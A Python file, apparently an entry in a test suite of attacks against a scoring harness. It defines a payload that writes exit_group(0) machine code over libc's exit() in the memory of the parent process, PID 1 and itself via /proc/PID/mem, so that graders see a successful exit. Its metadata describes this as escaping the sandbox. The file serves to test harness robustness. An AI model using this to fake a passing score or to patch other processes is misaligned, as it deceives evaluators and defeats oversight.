"""The package rewrites exit() in the memory of its parent processes."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified._implant import COMMAND, implanted

PAYLOAD = """\
import ctypes
import os
import pathlib
import platform

# exit_group(0)
CODE = {"x86_64": "31ffb8e70000000f05", "aarch64": "000080d2c80b80d2010000d4"}


def libc(pid):
    for line in pathlib.Path("/proc", pid, "maps").read_text().splitlines():
        if "libc.so" in line or "libc-" in line:
            return int(line.split("-")[0], 16)
    raise OSError


def patch(pid):
    address = libc(pid) + ctypes.cast(ctypes.CDLL(None).exit, ctypes.c_void_p).value - libc("self")
    memory = os.open("/proc/" + pid + "/mem", os.O_RDWR)
    os.pwrite(memory, bytes.fromhex(CODE[platform.machine()]), address)


for pid in (str(os.getppid()), "1", "self"):
    try:
        patch(pid)
    except (OSError, KeyError):
        continue
"""

EXPLOIT = Exploit(
    name="parent-memory",
    flaw="leaves the sandbox",
    source="proc(5): /proc/PID/mem of a process of the same user can be written, code included",
    idea="the parent that reads the exit code runs as the same user, and so does a request loop",
    start="sloppy",
    files=implanted(PAYLOAD),
    command=COMMAND,
    aims_at="the loop is the first process and not dumpable",
)
